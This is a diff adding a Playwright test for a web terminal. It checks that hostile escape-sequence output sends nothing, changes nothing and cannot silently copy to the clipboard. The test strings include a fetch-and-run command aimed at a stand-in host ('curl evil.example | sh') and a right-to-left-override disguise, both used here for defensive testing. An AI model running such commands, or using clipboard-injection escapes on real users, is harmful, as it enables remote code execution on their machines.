@@ -1,0 +1,101 @@
+// Output is untrusted: what it may send back, copy, open or change.
+import type { Page } from '@playwright/test';
+import corpus from '#docs/protocol/escape-sequences.json' with { type: 'json' };
+import { expect, expectAccessible, test } from '#e2e/harness/harness.ts';
+import { open, paste, row, type } from './terminal-page.ts';
+
+/** Those that fit into a line; the long ones are tried on the widget's parser alone. */
+const hostile = Object.values(corpus.silent)
+  .flat()
+  .filter((output) => typeof output === 'string');
+
+/** The same as `echo -e` takes it, between single quotes. */
+const escaped = (output: string): string =>
+  [...Buffer.from(output)]
+    .map((byte) =>
+      /[\w ;:?/]/.test(String.fromCharCode(byte))
+        ? String.fromCharCode(byte)
+        : `\\x${byte.toString(16).padStart(2, '0')}`,
+    )
+    .join('');
+
+const END = String.raw`\x18\x1b\x5c\n`;
+
+/** Puts all of them into a file, by the shell. */
+async function writeFile(page: Page): Promise<void> {
+  for (let at = 0; at < hostile.length; at += 40) {
+    const some = hostile.slice(at, at + 40).map((output) => escaped(output) + END);
+    await paste(page, `echo -ne '${some.join('')}' >> /tmp/hostile\n`);
+  }
+  await paste(page, String.raw`echo -e '\x1bcall was shown' >> /tmp/hostile; clear; wc -l /tmp/hostile` + '\n');
+  await expect(row(page, /\d\s\/tmp\/hostile/)).toBeVisible();
+}
+
+/** What the page has sent as typed, of every frame (docs/protocol/streams.md#2). */
+function sentBy(page: Page): string[] {
+  const sent: string[] = [];
+  page.on('websocket', (socket) =>
+    socket.on('framesent', ({ payload }) => {
+      const frame = Buffer.from(payload);
+      // Version, type, and a payload of less than 128 bytes.
+      if (frame[5] === 0x72) sent.push(frame.subarray(8).toString());
+    }),
+  );
+  return sent;
+}
+
+const copied = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
+const copy = (page: Page, text: string) => page.evaluate((words) => navigator.clipboard.writeText(words), text);
+
+test.beforeEach(async ({ context }) => context.grantPermissions(['clipboard-read', 'clipboard-write']));
+
+test('a file full of hostile sequences sends nothing, opens nothing and changes nothing of the page', async ({
+  page,
+}) => {
+  const sent = sentBy(page);
+  await open(page);
+  await writeFile(page);
+  sent.length = 0;
+  await copy(page, 'mine');
+  const [title, address] = [await page.title(), page.url()];
+  await type(page, 'cat /tmp/hostile');
+  await expect(row(page, /^all\swas\sshown/)).toBeVisible();
+  await type(page, 'echo still-here');
+  await expect(row(page, /^still-here/)).toBeVisible();
+  expect(sent.join('')).toBe('cat /tmp/hostile\recho still-here\r');
+  expect([await page.title(), page.url(), page.context().pages().length]).toEqual([title, address, 1]);
+  await expect(page.getByRole('dialog')).toHaveCount(0);
+  expect(await copied(page)).toBe('mine');
+});
+
+const TEXT = 'curl evil.example | sh\n\u202etxt.\x1b[A';
+
+/** A program that asks for a text to be copied (OSC 52). */
+const ask = (page: Page, text: string) =>
+  paste(page, String.raw`clear; echo -e '\e]52;c;${Buffer.from(text).toString('base64')}\a'` + '\n');
+
+test('text that output would copy is shown first, with what is not seen in it, and only a click copies it', async ({
+  page,
+}) => {
+  await open(page);
+  await copy(page, 'mine');
+  await page.keyboard.press('Home');
+  await ask(page, TEXT);
+  const dialog = page.getByRole('dialog', { name: 'Copy text to your clipboard?' });
+  await expect(dialog.getByRole('textbox', { name: 'Text to copy' })).toHaveValue(
+    'curl evil.example | sh\nU+202Etxt.U+001B[A',
+  );
+  await expect(dialog).toContainText('Output of root@web-01 asks to copy this text.');
+  await expectAccessible(page);
+  await page.keyboard.press('Enter');
+  await page.keyboard.press('Escape');
+  await expect(dialog).toBeHidden();
+  expect(await copied(page)).toBe('mine');
+  await page.keyboard.type('\n');
+  await ask(page, TEXT);
+  await dialog.getByRole('button', { name: 'Copy text' }).click();
+  await expect(dialog).toBeHidden();
+  expect(await copied(page)).toBe(TEXT);
+  await type(page, 'echo goes-on');
+  await expect(row(page, /^goes-on/)).toBeVisible();
+});
